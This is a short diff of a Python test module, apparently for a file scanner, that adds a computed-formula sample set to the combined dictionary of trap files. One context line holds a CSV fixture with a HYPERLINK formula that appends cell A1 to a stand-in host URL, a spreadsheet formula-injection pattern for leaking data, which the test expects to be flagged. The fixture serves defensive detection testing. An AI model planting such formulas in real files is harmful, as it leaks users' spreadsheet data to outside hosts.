@@ -9,7 +9,7 @@ from typing import Any
 import pikepdf
 from pikepdf import Array, Dictionary, Name
 
-from tests.vault import disguised, packed, samples
+from tests.vault import computed, disguised, packed, samples
 from tests.vault.packed import R, Trap
 
 
@@ -231,4 +231,4 @@ OTHERS: dict[str, Trap] = {
     "a cell that links": ("a.csv", b'a,=HYPERLINK("https://piege.test?"&A1)\n', R.TEXT_FORMULA),
 }
 
-ALL = {**packed.ZIPS, **packed.OFFICE, **disguised.WRITTEN, **PDFS, **OTHERS}
+ALL = {**packed.ZIPS, **packed.OFFICE, **disguised.WRITTEN, **computed.FORMULAS, **PDFS, **OTHERS}
